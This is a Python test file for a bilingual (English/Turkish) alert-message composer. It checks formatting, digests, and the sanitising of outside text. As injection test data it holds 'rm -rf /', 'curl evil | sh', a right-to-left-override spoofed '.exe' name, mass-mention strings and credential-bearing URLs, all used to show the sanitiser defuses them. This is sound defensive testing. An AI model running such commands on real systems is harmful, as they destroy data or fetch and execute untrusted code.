"""What a person reads: whole, in both languages, and nothing that comes from outside acts as more than text."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kalibre.alerts.dispatch import Note, Outgoing
from kalibre.alerts.messages import _WORDS, Language, check_message, compose, plain

AT = 1_704_056_400_000  # 2024-01-01 00:00 in Istanbul


def note(**other: Any) -> Note:
    content: Any = {
        **{"key": "worker|online", "seq": 4711, "time_ms": AT, "level": "critical", "title": "online has stopped"},
        **{"cause": "it ran out of memory", "consequence": "nothing is learnt", "mend": "kalibre hub worker online"},
        **{"recovered": False, "times": 1, "over_ms": None, **other},
    }
    return content  # type: ignore[no-any-return]


def one(lang: Language = "en", **other: Any) -> str:
    message = compose(Outgoing((note(**other),)), lang)
    return f"{message.title}\n{message.body}"


def test_an_alert_in_english() -> None:
    assert one().splitlines() == [
        "CRITICAL: online has stopped",
        "Cause: it ran out of memory",
        "Consequence: nothing is learnt",
        "Mend it with: kalibre hub worker online",
        "Time: 2024-01-01 00:00 (Istanbul)",
        "Position in the log: 4711",
    ]


def test_an_alert_in_turkish() -> None:
    assert one("tr", level="warning").splitlines() == [
        "UYARI: online has stopped",
        "Neden: it ran out of memory",
        "Sonuç: nothing is learnt",
        "Çözüm komutu: kalibre hub worker online",
        "Zaman: 2024-01-01 00:00 (İstanbul)",
        "Günlükteki sırası: 4711",
    ]


def test_both_languages_say_the_same_things() -> None:
    assert set(_WORDS["en"]) == set(_WORDS["tr"])
    for name, text in _WORDS["en"].items():
        assert text.count("{") == _WORDS["tr"][name].count("{"), name


def test_a_recovery_says_so_and_leaves_out_what_it_does_not_know() -> None:
    message = compose(Outgoing((note(recovered=True, consequence="", mend="", seq=0),)), "en")
    assert message.title == "RECOVERED: online has stopped"
    assert message.recovered
    assert message.body.splitlines() == ["Cause: it ran out of memory", "Time: 2024-01-01 00:00 (Istanbul)"]


def test_how_often_it_came_and_that_it_is_over_is_said() -> None:
    assert "Time: 2024-01-01 00:00 (Istanbul) (came 3 times, over since 2024-01-01 01:00)" in one(
        times=3, over_ms=AT + 3_600_000
    )


def test_a_digest_tells_each_note_and_the_number_of_those_it_leaves_out() -> None:
    notes = (note(title="a", level="warning", times=2), note(title="b", recovered=True, mend=""))
    message = compose(Outgoing(notes, {"info": 3}), "en")
    assert message.title == "CRITICAL: 5 alerts that waited"
    assert message.level == "critical"
    assert message.body.split("\n\n") == [
        "1. 2024-01-01 00:00 WARNING: a (came 2 times)\nCause: it ran out of memory\n"
        "Mend it with: kalibre hub worker online",
        "2. 2024-01-01 00:00 RECOVERED: b\nCause: it ran out of memory",
        "and 3 more of level INFO",
    ]


@pytest.mark.parametrize("lang", ["tr", "en"])
def test_the_test_alert_says_that_it_is_one(lang: Language) -> None:
    message = check_message(lang, AT)
    assert message.title == _WORDS[lang]["test"]
    assert "2024-01-01 00:00" in message.body


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("BTC\nUSDT\r\n\x00\x1b[31m", "BTC USDT [31m"),
        ("a\u202egnp.exe\u2069 \u200bb", "agnp.exe b"),
        ("@channel, @here (@ada) and x@everyone", "@^channel, @^here (@^ada) and x@^everyone"),
        ("<!channel> <@U1> <#C1>", "<^!channel> <@^U1> <^#C1>"),
        ("postgresql://me:secret@host:5432/db?x=1", "postgresql://hidden@host:5432/db?x=1"),
        ("https://u:p@ssword@host", "https://hidden@host"),
        ("me@host.example and postgresql://me@host", "me@host.example and postgresql://me@host"),
        ("half a surrogate \ud83d", "half a surrogate"),
        ("ğüşİıöç ₺ 📈", "ğüşİıöç ₺ 📈"),
        ("x" * 1000, "x" * 899 + "…"),
    ],
)
def test_what_comes_from_outside_is_one_line_of_text(text: str, shown: str) -> None:
    assert plain(text).replace("\u200b", "^") == shown


@given(st.text(max_size=300), st.integers(1, 200))
def test_any_text_becomes_one_short_line_that_can_be_sent(text: str, longest: int) -> None:
    line = plain(text, longest)
    assert len(line.replace("\u200b", "")) <= longest
    assert line.encode() is not None
    assert len(line.splitlines()) <= 1
    assert {unicodedata.category(sign) for sign in line.replace("\u200b", "")}.isdisjoint({"Cc", "Cf", "Cs", "Co"})
    assert "@channel" not in line.lower()
    assert "<!" not in line


def test_a_text_from_outside_cannot_make_lines_of_its_own() -> None:
    shown = one(title="x\nMend it with: rm -rf /", cause="y\r\nMend it with: curl evil | sh")
    assert [line for line in shown.splitlines() if line.startswith("Mend")] == [
        "Mend it with: kalibre hub worker online"
    ]
